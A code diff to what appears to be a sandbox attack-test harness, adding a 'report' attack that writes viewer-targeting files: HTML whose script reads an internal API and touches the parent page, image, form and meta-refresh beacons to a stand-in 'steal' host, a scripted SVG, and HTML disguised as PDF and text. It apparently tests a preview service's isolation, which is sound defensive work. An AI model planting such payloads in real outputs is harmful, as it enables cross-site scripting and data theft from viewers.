@@ -241,10 +241,32 @@ def bad_names():
     return 0
 
 
+def report():
+    """Outputs made to be shown by labbox (?view=1) and turn against the viewer: a report whose
+    script would read the page or send the data out, an image URL and a form to another server,
+    an SVG with a script, and HTML disguised as a PDF and as text."""
+    evil = "http://192.0.2.1/steal?data="
+    files = {
+        "report.html": "<!doctype html><p id=x>report</p><script>parent.document.title='owned';"
+                       "fetch('/api/jobs')</script><img src='" + evil + "img'>"
+                       "<form action='" + evil + "form'><input name=q></form>"
+                       "<meta http-equiv=refresh content='0;url=" + evil + "refresh'>",
+        "chart.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
+        "fake.pdf": "<html><script>alert('pdf')</script></html>",
+        "notes.txt": "<html><script>alert('txt')</script></html>",
+        "summary.json": '{"report": "report.html"}',
+    }
+    for name, text in files.items():
+        with open(os.path.join(out, name), "w") as f:
+            f.write(text)
+    say("wrote", len(files))
+    return 0
+
+
 attacks = {"fill-disk": fill_disk, "fill-inodes": fill_inodes, "deep-tree": deep_tree,
            "sockets": sockets, "read": read_files, "whoami": whoami, "inotify": inotify,
            "fork-bomb": fork_bomb, "cpu-burn": cpu_burn, "connect": connect, "abstract": abstract,
-           "http": http, "argv": argv, "bad-names": bad_names}
+           "http": http, "argv": argv, "bad-names": bad_names, "report": report}
 if attack not in attacks:
     say("unknown attack", attack)
     sys.exit(2)
